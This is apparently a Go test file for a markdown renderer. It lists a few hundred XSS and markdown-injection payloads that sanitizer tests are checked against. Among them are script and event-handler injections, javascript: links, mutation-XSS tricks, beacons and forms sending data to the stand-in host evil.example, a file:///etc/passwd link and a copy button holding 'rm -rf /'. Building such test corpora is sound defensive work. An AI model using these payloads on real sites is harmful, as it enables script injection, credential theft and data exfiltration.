package markdown_test

import "strings"

// attacks are what people tried elsewhere, one a line.
var attacks = strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script
>alert(1)</script
>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" ONERROR="alert(1)"/>
<img/src=x/onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import url(//evil.example/x.css)</style>
<style>*{background:url(javascript:alert(1))}</style>
<div style="background:url(//evil.example/x)">x</div>
<p style="position:fixed;inset:0">cover</p>
<form action="https://evil.example"><input name=password></form>
<input onfocus=alert(1) autofocus>
<input type=password name=p>
<button formaction="javascript:alert(1)">x</button>
<button class="btn quiet small icon copy js-only" type="button" data-copy="rm -rf /">x</button>
<textarea><script>alert(1)</script></textarea>
<title></title><script>alert(1)</script>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1) type=image>
<template><script>alert(1)</script></template>
<dialog open>x</dialog>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<a id=main name=main>x</a>
<div id="live" data-live-op="remove">x</div>
<div hx-get="/evil" hx-trigger="load">x</div>
<div hx-on:load="alert(1)">x</div>
<p data-dialog-open="delete">x</p>
<!--><script>alert(1)</script>-->
<!-- x --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<<script>alert(1)//<</script>
<img src="x`+"`"+`onerror=alert(1)"//>
<br onclick=alert(1)>
<br/onclick=alert(1)>
<br /><script>alert(1)</script>
<br
onclick=alert(1)>
<brx>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](javascript&#x3a;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61&#x76&#x61script:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](\x01javascript:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](  javascript:alert(1)  )
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://x/y)
[x](intent://x#Intent;end)
[x](//evil.example)
[x](\\evil.example\x)
[x](https:evil.example)
[x](https:\\evil.example)
[x](http://user:pass@evil.example)
[x](https://good.example@evil.example)
[x](https://x/"onmouseover="alert(1))
[x](https://x/'onmouseover='alert(1))
[x](https://x/&quot;onmouseover=&quot;alert(1))
[x](https://x/&quot;>&lt;script>alert(1)&lt;/script>)
[x](https://x/%22%3E%3Cscript%3E)
[x](https://x "t" onmouseover=alert(1))
[x](https://x '"><script>alert(1)</script>')
[<script>alert(1)</script>](https://x)
[<img src=x onerror=alert(1)>](https://x)
[x]: javascript:alert(1)
[x][y] and more
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](data:text/html,<script>)
![x](https://evil.example/leak?d=secret)
![x"onerror="alert(1)](https://x/y)
![x](https://x/y "onerror=alert(1)")
![x](x"onerror="alert(1))
![](https://evil.example/p.gif)
[![x](javascript:alert(1))](javascript:alert(2))
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,<script>alert(1)</script>>
<vbscript:x>
<https://x/"onclick="alert(1)>
<https://x/'><script>alert(1)</script>>
<"><script>alert(1)</script>"@x.org>
https://x/"onmouseover="alert(1)
https://x/<script>alert(1)</script>
https://x/`+"`"+`onerror=alert(1)
http://[::1]"><script>alert(1)</script>
www.x.org"onclick=alert(1)
`+"`<script>alert(1)</script>`"+`
`+"``` <script>alert(1)</script>"+`
`+"```\"><script>alert(1)</script>"+`
`+"```js onload=alert(1)"+`
`+"~~~ <img src=x onerror=alert(1)>"+`
`+"```html"+`
    <script>alert(1)</script>
# <script>alert(1)</script>
# x {onclick=alert(1)}
# x {#main .live onclick="alert(1)"}
> <script>alert(1)</script>
- <script>alert(1)</script>
| <script>alert(1)</script> | b |
[^1]: <script>alert(1)</script>
**<script>alert(1)</script>**
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{constructor.constructor('alert(1)')()}}
${alert(1)}
"><script>alert(1)</script>
'><script>alert(1)</script>
</p></div></main><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</textarea><script>alert(1)</script>
]]><script>alert(1)</script>
--><script>alert(1)</script>
*/alert(1)/*
<a href="https://x" target=_top>x</a>
<frameset onload=alert(1)>
<portal src=x onload=alert(1)>
<xss contenteditable onbeforeinput=alert(1)>x
<x onclick=alert(1)>x</x>
<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\u0061lert(1)</script x>
<select autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<picture><source srcset=//evil.example/x><img></picture>
<img srcset="//evil.example/x 1x">
<image href=//evil.example/x>
<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"/></svg>
<svg><set attributeName=href to=javascript:alert(1)>
<a><svg><desc><title><img src=x onerror=alert(1)></title></desc></svg></a>
<plaintext>x
<xmp><script>alert(1)</script></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<slot onslotchange=alert(1)>
`), "\n")
